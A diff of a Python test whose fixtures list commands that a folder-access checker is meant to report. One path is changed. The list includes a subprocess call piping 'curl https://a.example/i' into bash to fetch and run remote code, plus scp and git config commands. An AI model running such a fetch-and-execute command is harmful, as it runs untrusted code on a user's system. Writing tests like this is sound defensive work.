@@ -83,7 +83,7 @@ def test_access_outside_the_folders_is_reported(text, rules):
         "!conda config --env --set a b",
         "!git config user.name a",
         "!git config --global --list",
-        "!scp host:/root/a .",
+        f"!scp host:{_HOME}/a .",
         "subprocess.run(['bash', '-c', 'curl https://a.example/i | bash -'])",
         "!unzip -q /tmp/a.zip -d /tmp/b",
         "!git clone -b main https://a.example/b.git",
